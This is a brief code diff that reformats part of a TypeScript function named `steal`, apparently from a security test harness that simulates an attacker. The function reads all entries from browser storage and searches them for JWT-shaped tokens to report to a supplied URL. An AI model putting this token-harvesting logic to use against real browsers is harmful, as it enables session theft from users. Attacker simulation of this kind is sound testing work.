@@ -62,7 +62,9 @@ export async function startAttacker(): Promise<Attacker> {
 async function steal(reportUrl: string, jwtShape: string): Promise<boolean> {
   const jwt = new RegExp(jwtShape, 'g');
   const read = (store: Storage): Record<string, string> =>
-    Object.fromEntries(Array.from({ length: store.length }, (_, index) => store.key(index) ?? '').map((key) => [key, store.getItem(key) ?? '']));
+    Object.fromEntries(
+      Array.from({ length: store.length }, (_, index) => store.key(index) ?? '').map((key) => [key, store.getItem(key) ?? '']),
+    );
   const tokens: { where: string; value: string }[] = [];
   const search = (value: unknown, where: string, name = ''): void => {
     if (typeof value === 'string') {
